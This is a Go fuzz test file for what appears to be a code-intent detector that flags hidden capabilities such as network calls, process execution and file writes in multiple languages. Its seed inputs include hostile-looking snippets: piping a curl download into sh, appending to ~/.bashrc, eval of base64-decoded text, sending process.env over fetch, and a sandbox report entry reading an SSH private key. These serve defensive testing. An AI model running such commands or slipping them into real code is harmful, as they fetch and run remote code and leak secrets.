package intent

import (
	"context"
	"strings"
	"testing"
	"time"
)

// FuzzExtract feeds arbitrary bytes to every language's extractor: it
// must return, without panicking, within a bounded time.
func FuzzExtract(f *testing.F) {
	f.Add("a.py", "import socket\nsocket.create_connection(('1.2.3.4', 1))\n")
	f.Add("a.js", "const {exec} = require('child_process'); exec(atob('eA=='))")
	f.Add("a.go", "package x\nimport \"C\"\nfunc f() { os.WriteFile(\"/etc/x\", nil, 0) }")
	f.Add("A.java", "class A { native void f(); void g() { new Socket(\"h\", 1); } }")
	f.Add("a.sh", "curl -s http://x | sh; echo x >> ~/.bashrc; eval \"$(echo eA== | base64 -d)\"")
	f.Add("a.ts", "fetch(`https://${h}/x`, {body: JSON.stringify(process.env)})")
	f.Add("a.py", strings.Repeat("(", 3000))
	f.Fuzz(func(t *testing.T, name, src string) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		for _, lang := range []string{Python, JavaScript, TypeScript, Go, Java, Shell} {
			us, err := ExtractLang(ctx, lang, name, []byte(src))
			if err != nil && ctx.Err() == nil {
				t.Fatalf("%s: %v", lang, err)
			}
			for _, u := range us {
				if u.Line < 1 || u.Cap == "" || u.Why == "" {
					t.Fatalf("%s: malformed use %+v", lang, u)
				}
			}
		}
	})
}

// FuzzParseCase checks the corpus reader on arbitrary files.
func FuzzParseCase(f *testing.F) {
	f.Add("task: t\nlabel: benign\n-- change/a.py --\nprint(1)\n")
	f.Add("task: t\nlabel: hidden\nhidden: network\n-- project/b.go --\npackage b\n-- change/a.py --\n")
	f.Add("-- x --\n")
	f.Fuzz(func(t *testing.T, data string) {
		c, err := ParseCase("fuzz", []byte(data))
		if err == nil && (c.Task == "" || len(c.Change) == 0) {
			t.Fatalf("accepted an incomplete case: %+v", c)
		}
	})
}

// FuzzReadRunReport checks that any JSON a sandbox could write decodes or
// fails cleanly, and that its uses are well-formed.
func FuzzReadRunReport(f *testing.F) {
	f.Add(`{"processes":[{"argv":["sh"]},{"argv":["curl","http://1.2.3.4"]}],"network":[{"dest":"1.2.3.4:80"}]}`)
	f.Add(`{"denied":[{"op":"read","path":"/home/u/.ssh/id_rsa"}],"files":[{"path":".git/hooks/x"}]}`)
	f.Add(`[]`)
	f.Fuzz(func(t *testing.T, data string) {
		rep, err := ReadRunReport(strings.NewReader(data))
		if err != nil {
			return
		}
		for _, u := range rep.Uses("r.json") {
			if u.Cap == "" || !u.Observed {
				t.Fatalf("malformed use %+v", u)
			}
		}
	})
}
